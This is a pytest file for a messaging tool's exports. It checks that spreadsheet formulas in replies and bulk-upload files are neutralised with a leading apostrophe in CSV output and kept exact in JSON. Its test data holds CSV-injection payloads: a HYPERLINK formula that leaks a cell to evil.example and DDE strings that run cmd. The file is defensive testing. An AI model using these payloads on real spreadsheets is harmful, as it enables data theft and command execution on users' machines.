"""Replies that are spreadsheet formulas: every CSV the tool writes shows them as text (a
leading ``'``), JSON keeps them exact."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys

import pytest
from clirun import run

from fivec_tui.sync.bulk import outputs
from fivec_tui.sync.bulk.validate import Reject
from fivec_tui.text import csv_cell

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["好的 =1", "13800138000", "", 12, -3.5, None, "'=quoted"])
def test_other_cells_are_left_as_they_are(value):
    assert csv_cell(value) == value


def test_exports_of_replies_neutralise_formulas_and_json_keeps_them(sim_thread, poll_env, tmp_path):
    env = poll_env(sim_thread)
    for i, text in enumerate(FORMULAS):
        sim_thread.platform.add_reply(f"1370000{i:04d}", text)
    polled = subprocess.run(
        [sys.executable, "-m", "fivec_tui", "poll", "--once", "--yes"],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert polled.returncode == 0, polled.stderr
    cli_env = {k: env[k] for k in env if k.startswith("FIVEC_")}
    code, out, err = run(cli_env, "export", "replies", "--format", "csv")
    assert code == 0, err
    cells = {row["content"] for row in csv.DictReader(io.StringIO(out))}
    assert cells == {"'" + text for text in FORMULAS}
    code, out, err = run(cli_env, "export", "replies", "--format", "jsonl")
    assert {json.loads(line)["content"] for line in out.splitlines()} == set(FORMULAS)


def test_bulk_rejects_and_results_neutralise_formulas(tmp_path):
    rejects = tmp_path / "in.csv.rejected.csv"
    outputs.write_rejects(
        rejects, ["mobile", "=name"], [Reject(2, ["=cmd|' /C calc'!A0", "@x"], "bad_mobile", "-")]
    )
    results = tmp_path / "in.csv.results.csv"
    outputs.write_results(results, [(2, "13800138000", "failed", "", "-ERR =1")])
    read = [list(csv.reader(io.StringIO(p.read_text("utf-8-sig")))) for p in (rejects, results)]
    assert read[0] == [
        ["row", "reason", "detail", "mobile", "'=name"],
        ["2", "bad_mobile", "'-", "'=cmd|' /C calc'!A0", "'@x"],
    ]
    assert read[1][1] == ["2", "13800138000", "failed", "", "'-ERR =1"]
